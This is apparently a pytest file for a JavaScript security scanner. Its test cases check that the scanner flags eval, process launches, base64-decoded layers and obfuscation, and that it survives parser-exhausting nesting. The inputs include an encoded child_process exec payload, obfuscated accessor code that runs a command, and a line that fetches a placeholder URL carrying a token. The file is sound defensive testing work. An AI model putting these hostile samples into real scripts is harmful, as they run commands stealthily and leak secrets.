"""What hostile scripts do to whoever reads them: it ends, says so, and never falls over."""

import pytest

from scanners.facts import Act
from scanners.javascript import read_scripts
from tests.scanners.javascript.reading import read, source

DEEP = 100_000
HOSTILE = {
    "parentheses": "(" * DEEP + "1" + ")" * DEEP,
    "arrays": "x=" + "[" * DEEP + "]" * DEEP,
    "unary": "x=" + "!" * DEEP + "1",
    "ternary": "x=" + "a?b:" * DEEP + "1",
    "members": "a" + ".b" * DEEP,
    "calls": "a" + "()" * DEEP,
    "blocks": "{" * DEEP + "}" * DEEP,
}


@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE.keys())
def test_deep_nesting_is_an_error(code: str) -> None:
    errors = read(code).errors

    assert errors == ("index.js: nested too deeply to follow",)


@pytest.mark.parametrize("sign", ["+", "&&", ",", "-"])
def test_long_chains_are_followed(sign: str) -> None:
    read_pass = read(sign.join(["1"] * 20_000) + ";eval(x)")

    assert read_pass.errors == ()
    assert [fact.act for fact in read_pass.facts] == [Act.CODE_EVAL]


def test_else_if_chains_are_followed() -> None:
    code = "if (a) b(); " + "else if (a) b(); " * 5_000 + "\neval(x)"

    assert [fact.act for fact in read(code).facts] == [Act.CODE_EVAL]


def test_functions_inside_functions_are_followed() -> None:
    read_pass = read("(()=>" * 5_000 + "eval(x)" + ")" * 5_000)

    assert [fact.act for fact in read_pass.facts] == [Act.CODE_EVAL]


def test_functions_that_call_each_other_end() -> None:
    calls = "".join(f"f{n}(x);" for n in range(30))
    code = "".join(f"function f{n}(x) {{ {calls} }}" for n in range(30)) + "f0(process.env); eval(y)"

    assert Act.CODE_EVAL in [fact.act for fact in read(code).facts]


def test_recursion_ends() -> None:
    code = "function f(x) { return f(x + 'a') + f('b' + x) } f('c'); eval(f('d'))"

    assert Act.CODE_EVAL in [fact.act for fact in read(code).facts]


def test_what_does_not_parse_is_an_error() -> None:
    assert read("const a = ;;; function (").errors == ("index.js: line 1 does not parse",)


def test_exported_types_are_no_syntax_error() -> None:
    code = "export type * from './a'\nexport type * as b from './b'\neval(x)"
    read_pass = read(code, path="index.ts")

    assert read_pass.errors == ()
    assert [(fact.act, fact.line) for fact in read_pass.facts] == [(Act.CODE_EVAL, 3)]


def test_a_guess_need_not_parse() -> None:
    guess = source("notes.txt", "this is no code at all (", is_guess=True)

    assert read_scripts([guess], entry_points=()).errors == ()


def test_decoded_layers_are_followed_and_told_on_their_line() -> None:
    read_pass = read("\n\neval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk='))")

    assert read_pass.layers == (("index.js", 3, "require('child_process').exec('id')"),)
    assert [(fact.act, fact.line) for fact in read_pass.facts] == [(Act.PROCESS_START, 3), (Act.CODE_EVAL, 3)]


def test_layers_that_never_end_are_an_error() -> None:
    code = "const s = 'eval(s)'; eval(s)"

    assert read(code).errors == ("index.js: more decoded layers than are followed",)


def test_same_scripts_give_the_same_facts() -> None:
    code = "const { exec } = require('child_process'); exec(process.env.A + process.argv); fetch(`https://a.example.invalid/${x.token}`)"

    assert read(code) == read(code)


def test_texts_behind_an_accessor_are_found() -> None:
    code = (
        "function _0x4e2c(){const a=['exec','child_process','id'];_0x4e2c=function(){return a;};return _0x4e2c();}"
        "function _0x1a2b(a,b){const c=_0x4e2c();_0x1a2b=function(d,e){d=d-0x1e7;let f=c[d];return f;};"
        "return _0x1a2b(a,b);} require(_0x1a2b(0x1e8))[_0x1a2b(0x1e7)](_0x1a2b(0x1e9));"
    )

    assert ("id", Act.PROCESS_START) in [(fact.detail, fact.act) for fact in read(code).facts]


def test_obfuscated_scripts_are_told() -> None:
    names = ",".join(f"_0x{n:04x}" for n in range(0x1A00, 0x1A20))
    code = f"var _0x5f3a=['a','b','c'];function f({names}){{return _0x5f3a[_0x1a00]}}"

    assert "obfuscated" in [fact.detail for fact in read(code).facts]
    assert read("var list=['a','b','c'];function f(a){return list[a]}").facts == ()
